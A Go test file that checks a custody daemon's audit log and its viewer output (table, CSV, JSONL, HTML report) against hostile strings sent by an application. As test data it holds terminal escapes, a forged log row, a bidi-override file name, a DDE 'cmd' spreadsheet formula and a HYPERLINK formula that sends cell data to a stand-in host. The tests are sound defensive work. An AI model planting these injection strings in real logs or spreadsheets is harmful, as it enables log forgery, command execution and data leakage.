package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"custody/hsm"
	"custody/internal/api"
	"custody/internal/auditlog"
	"custody/internal/config/duration"
	"custody/internal/server"
)

// rawModeEnv makes the test binary, re-executed as another Unix user (and
// possibly from a hostile path), send one request given on stdin as JSON
// {"method","path","headers","body"} to the socket and print
// {"status","body"}: an application that controls every byte it sends.
const rawModeEnv = "CUSTODY_TEST_RAW_SOCKET"

type rawRequest struct {
	Method  string            `json:"method"`
	Path    string            `json:"path"`
	Headers map[string]string `json:"headers"`
	Body    string            `json:"body"`
}

type rawResponse struct {
	Status int    `json:"status"`
	Body   string `json:"body"`
}

func runRawMode() int {
	var rr rawRequest
	if err := json.NewDecoder(os.Stdin).Decode(&rr); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	socket := os.Getenv(rawModeEnv)
	c := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", socket)
	}}}
	req, err := http.NewRequest(rr.Method, "http://custody"+rr.Path, strings.NewReader(rr.Body))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	for k, v := range rr.Headers {
		req.Header.Set(k, v)
	}
	resp, err := c.Do(req)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	json.NewEncoder(os.Stdout).Encode(rawResponse{resp.StatusCode, string(b)})
	return 0
}

// rawAs sends rr as the Unix user name from the test binary copied to
// exe (a path the attacker chose), and returns the status and the error
// code of the answer.
func (h *harness) rawAs(t *testing.T, name, exe string, rr rawRequest) (int, string) {
	t.Helper()
	u := users[name]
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	in, _ := json.Marshal(rr)
	cmd := exec.Command(exe)
	cmd.Env = []string{rawModeEnv + "=" + h.socket}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
	cmd.Stdin = bytes.NewReader(in)
	cmd.Dir = "/"
	var errb bytes.Buffer
	cmd.Stderr = &errb
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("raw client as %s: %v: %s", name, err, errb.String())
	}
	var resp rawResponse
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatal(err)
	}
	var body map[string]any
	json.Unmarshal([]byte(resp.Body), &body)
	return resp.Status, errCode(body)
}

// newLoggedHarness is a daemon whose Recorder is the real access log (HSM
// checkpoint key); it returns the log, its directory and a copy of its
// verifier key kept outside it (what a reviewer pins).
func newLoggedHarness(t *testing.T) (*harness, *auditlog.Log, string, string) {
	t.Helper()
	dir := t.TempDir()
	var alog *auditlog.Log
	var vkey string
	h := newHarnessWith(t, func(d *server.Deps) {
		ctx := context.Background()
		cfg := auditlog.DefaultConfig()
		cfg.Dir, cfg.CheckpointInterval = dir, duration.Duration(20*time.Millisecond)
		s, _, err := auditlog.EnsureDeviceSigner(ctx, d.Token.(*hsm.Token), cfg.Origin, cfg.SigningKeyLabel, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		vkey = s.VerifierKey()
		alog, err = auditlog.Open(ctx, cfg, s, nil)
		if err != nil {
			t.Fatal(err)
		}
		d.Recorder, d.AccessLog = alog, alog
	})
	t.Cleanup(func() { alog.Close() })
	key := filepath.Join(t.TempDir(), "pinned-log.pub")
	if err := os.WriteFile(key, []byte(vkey+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return h, alog, dir, key
}

// entriesSince returns the log's entries from index start.
func entriesSince(t *testing.T, l *auditlog.Log, start int64) []auditlog.Entry {
	t.Helper()
	raw, err := l.Entries(start, l.Size())
	if err != nil {
		t.Fatal(err)
	}
	var out []auditlog.Entry
	for _, r := range raw {
		_, e, err := auditlog.ParseEntry(r.Data, r.Index)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, e)
	}
	return out
}

// hostile is what an application puts in its strings to attack the
// reviewer: a terminal escape that clears the screen and recolours, a
// forged row after CR LF, a spreadsheet formula, a bidi override.
const hostile = "\x1b[2J\x1b[31mFORGED\r\n99\t2026-11-25T12:00:00Z\tdecrypt\tallowed\x1b]0;owned\x07\u202egnp.exe"

// hostileHeader is hostile as far as HTTP lets a header carry it (net/http
// refuses C0 controls in header values, not C1 or bidi characters): the
// one-byte CSI U+009B, a bidi override.
const hostileHeader = "\u009b2J\u009b31mFORGED\u202egnp.exe"

// TestHostileStringsInTheLog: an application user, through the socket,
// from an executable whose path is hostile, sends requests whose
// transaction_id, job_id, participants, as, purpose and end-user headers
// carry escapes, newlines, formulas and a 1 MiB string. Every request is
// recorded (clipped and marked, the outcome it had), and the reviewer's
// log query (table, CSV, JSONL) and report print no raw control or bidi
// character and no cell that starts a formula.
func TestHostileStringsInTheLog(t *testing.T) {
	h, alog, dir, key := newLoggedHarness(t)
	h.register("miner-1")
	exe := filepath.Join(binDir, "app"+hostile+"=1+1.test")
	if err := copyFile(os.Args[0], exe); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(exe)
	start := alog.Size()
	mib := strings.Repeat("A", 1<<20)
	headers := map[string]string{
		"Custody-End-User-IP":    "=HYPERLINK(\"http://x/\"&A1)",
		"Custody-End-User-Agent": hostileHeader,
		"Custody-Request-ID":     "@SUM(1+1)" + strings.Repeat("\u009b", 10000),
		"Content-Type":           "application/json",
	}
	body := func(v any) string { b, _ := json.Marshal(v); return string(b) }
	cases := []struct {
		name    string
		rr      rawRequest
		status  int
		code    string
		clipped []string
	}{
		{"encrypt with hostile ids", rawRequest{"POST", "/v1/transactions/encrypt", headers, body(map[string]any{
			"transaction_id": "+tx" + hostile, "job_id": "-job" + hostile, "participants": []string{"@p" + hostile, "miner-1"},
			"confidential": map[string]any{"amount": "1"}})}, 400, "invalid_id", []string{"end_user.request_id"}},
		// The probe: before, its entry was over the size limit, dropped, and
		// the request refused with log_unavailable: no trace.
		{"oversized probe", rawRequest{"POST", "/v1/transactions/encrypt", headers, body(map[string]any{
			"transaction_id": mib, "job_id": hostile + mib, "participants": slices.Repeat([]string{hostile + strings.Repeat("p", 200)}, 1000),
			"confidential": map[string]any{"amount": "1"}})}, 400, "invalid_id", []string{"transaction_id", "job_id", "participants", "end_user.request_id"}},
		{"decrypt as hostile", rawRequest{"POST", "/v1/transactions/decrypt", headers, body(map[string]any{
			"envelope": "x", "as": "=miner" + hostile, "purpose": "=cmd|' /C calc'!A0" + hostile + mib})}, 400, "invalid_id", []string{"purpose", "end_user.request_id"}},
	}
	for _, tc := range cases {
		st, code := h.rawAs(t, appUser, exe, tc.rr)
		if st != tc.status || code != tc.code {
			t.Fatalf("%s: %d %s, want %d %s", tc.name, st, code, tc.status, tc.code)
		}
	}
	es := entriesSince(t, alog, start)
	if len(es) != len(cases) {
		t.Fatalf("%d entries for %d requests: %+v", len(es), len(cases), es)
	}
	for i, e := range es {
		tc := cases[i]
		if e.Outcome != auditlog.Failed || e.Code != tc.code || e.Principal != "settlement-app" || e.Caller.UID != uid(appUser) {
			t.Errorf("%s: entry %+v", tc.name, e)
		}
		if !slices.Equal(e.Clipped, tc.clipped) {
			t.Errorf("%s: clipped %v, want %v", tc.name, e.Clipped, tc.clipped)
		}
		if !strings.Contains(e.Caller.Executable, "\x1b[2J") || e.EndUser.UserAgent != hostileHeader {
			t.Errorf("%s: the entry does not keep what the application sent: exe %q agent %q", tc.name, e.Caller.Executable, e.EndUser.UserAgent)
		}
		if !strings.HasSuffix(e.EndUser.RequestID, "bytes, clipped]") {
			t.Errorf("%s: request id %q not marked clipped", tc.name, e.EndUser.RequestID)
		}
	}
	if !strings.HasSuffix(es[1].TransactionID, fmt.Sprintf("…[%d bytes, clipped]", 1<<20)) {
		t.Errorf("probe transaction id: %.80q…", es[1].TransactionID)
	}
	if err := alog.Checkpoint(); err != nil {
		t.Fatal(err)
	}

	ctl := func(args ...string) string {
		t.Helper()
		cmd := exec.Command(filepath.Join(binDir, "custodyctl"), args...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		if err := cmd.Run(); err != nil {
			t.Fatalf("custodyctl %v: %v: %s", args, err, errb.String())
		}
		return out.String()
	}
	if out := ctl("log", "verify", dir, "--key", key, "--allow-unsigned-tail"); !strings.Contains(out, "OK:") {
		t.Fatalf("verify: %s", out)
	}
	// Only three entries match: the app's.
	query := []string{"log", "query", dir, "--principal", "settlement-app", "--format"}
	rawBad := func(what, out string) {
		t.Helper()
		for _, bad := range []string{"\x1b", "\r", "\a", "\u202e", "\u009b", "\x7f"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s output holds a raw %q", what, bad)
			}
		}
	}
	table := ctl(append(query, "table")...)
	rawBad("table", table)
	lines := strings.Split(strings.TrimSuffix(table, "\n"), "\n")
	if len(lines) != 1+len(cases) {
		t.Fatalf("table: %d lines for %d entries (a forged row?):\n%.2000s", len(lines), len(cases), table)
	}
	for _, l := range lines[1:] {
		if _, err := strconv.Atoi(strings.Fields(l)[0]); err != nil {
			t.Errorf("table row does not start with its index: %.200q", l)
		}
	}
	if !strings.Contains(table, `\x1b[2J`) || !strings.Contains(table, `\u202e`) {
		t.Errorf("table does not show the escapes escaped:\n%.1000s", table)
	}
	csvOut := ctl(append(query, "csv")...)
	rawBad("csv", csvOut)
	recs, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || len(recs) != 1+len(cases) {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	for _, r := range recs {
		for _, cell := range r {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("csv cell starts a formula: %.80q", cell)
			}
			if strings.ContainsAny(cell, "\n\r\x1b") {
				t.Errorf("csv cell holds a raw control character: %.80q", cell)
			}
		}
	}
	jsonl := ctl(append(query, "jsonl")...)
	rawBad("jsonl", jsonl)
	for _, l := range strings.Split(strings.TrimSuffix(jsonl, "\n"), "\n") {
		var e auditlog.Entry
		if err := json.Unmarshal([]byte(l), &e); err != nil || e.EndUser.UserAgent != hostileHeader || !strings.Contains(e.Caller.Executable, hostile) {
			t.Errorf("jsonl line does not decode to what was recorded: %v %.200q", err, l)
		}
	}
	html := filepath.Join(t.TempDir(), "report.html")
	ctl("log", "report", dir, "--from", "2026-11-25", "--to", "2026-11-26", "--out", html, "--key", key)
	page, _ := os.ReadFile(html)
	rawBad("report", string(page))
}

// TestReadsAreRecorded: the reviewer's log reads and the key listings are
// access-log entries (allowed), each with the route it read; health is not.
func TestReadsAreRecorded(t *testing.T) {
	h, alog, _, _ := newLoggedHarness(t)
	h.register("miner-1")
	reads := []struct{ path, op string }{
		{"/v1/log/checkpoint", "log.checkpoint"},
		{"/v1/log/entries?start=0&end=1", "log.entries"},
		{"/v1/log/proof/inclusion?index=0&size=1", "log.proof"},
		{"/v1/log/proof/consistency?old=1&new=1", "log.proof"},
		{"/v1/keys", "keys"},
		{"/v1/participants/miner-1", "participant"},
	}
	for _, r := range reads {
		start := alog.Size()
		if st, body := h.call("GET", r.path, nil); st != 200 {
			t.Fatalf("%s: %d %v", r.path, st, body)
		}
		es := entriesSince(t, alog, start)
		if len(es) != 1 || es[0].Operation != r.op || es[0].Outcome != auditlog.Allowed || es[0].Principal != "operator" ||
			es[0].Detail != "GET "+r.path {
			t.Errorf("%s: entries %+v", r.path, es)
		}
	}
	// A read that fails is recorded as failed.
	start := alog.Size()
	if st, _ := h.call("GET", "/v1/log/entries?start=5&end=2", nil); st != 400 {
		t.Fatal(st)
	}
	if es := entriesSince(t, alog, start); len(es) != 1 || es[0].Outcome != auditlog.Failed || es[0].Code != "bad_request" {
		t.Errorf("failed read: %+v", es)
	}
	// A body that does not decode is recorded too.
	start = alog.Size()
	if st, _ := h.call("POST", "/v1/transactions/encrypt", `{"transaction_id":`); st != 400 {
		t.Fatal(st)
	}
	if es := entriesSince(t, alog, start); len(es) != 1 || es[0].Operation != "encrypt" || es[0].Code != "bad_request" {
		t.Errorf("undecodable body: %+v", es)
	}
	start = alog.Size()
	h.call("GET", "/v1/health", nil)
	if n := alog.Size() - start; n != 0 {
		t.Errorf("health recorded %d entries", n)
	}
}

// TestCeremonyRefusalsDenied: refusals of the dual-control rules, by real
// officer users through custodyctl, are recorded as denied; a request
// that fails for another reason stays failed.
func TestCeremonyRefusalsDenied(t *testing.T) {
	kits, officersFile := newOfficerKits(t)
	o := func(i int) string { return kits[i-1].user }
	c := newCeremonyHarness(t, kits, officersFile)
	expect := func(what string, outcome auditlog.Outcome, code string) {
		t.Helper()
		if e := c.rec.last(); e.Outcome != outcome || e.Code != code {
			t.Errorf("%s: recorded %s %s, want %s %s", what, e.Outcome, e.Code, outcome, code)
		}
	}
	c.ctlFails(api.CodeNotOfficer, "custody-o6", "", "ceremony", "status")
	expect("not an officer", auditlog.Denied, api.CodeNotOfficer)
	g := c.request(o(1), nil, "genesis", "--m", "2")
	c.ctlFails(api.CodeNotApproved, o(1), "", "ceremony", "genesis", g.ID)
	expect("execute without quorum", auditlog.Denied, api.CodeNotApproved)
	c.ctlFails(api.CodeSelfApproval, o(1), "", "ceremony", "approve", g.ID, "--hash", g.Hash)
	expect("self approval", auditlog.Denied, api.CodeSelfApproval)
	c.ctlFails(api.CodeRequestMismatch, o(2), "", "ceremony", "approve", g.ID, "--hash", strings.Repeat("0", 64))
	expect("approval of another text", auditlog.Denied, api.CodeRequestMismatch)
	c.ctl(o(2), "ceremony", "approve", g.ID, "--hash", g.Hash)
	c.ctlFails(api.CodeDuplicateApproval, o(2), "", "ceremony", "approve", g.ID, "--hash", g.Hash)
	expect("second approval", auditlog.Denied, api.CodeDuplicateApproval)
	c.ctlFails(api.CodeUnknownRequest, o(3), "", "ceremony", "approve", "no-such-request", "--hash", g.Hash)
	expect("unknown request", auditlog.Failed, api.CodeUnknownRequest)
}
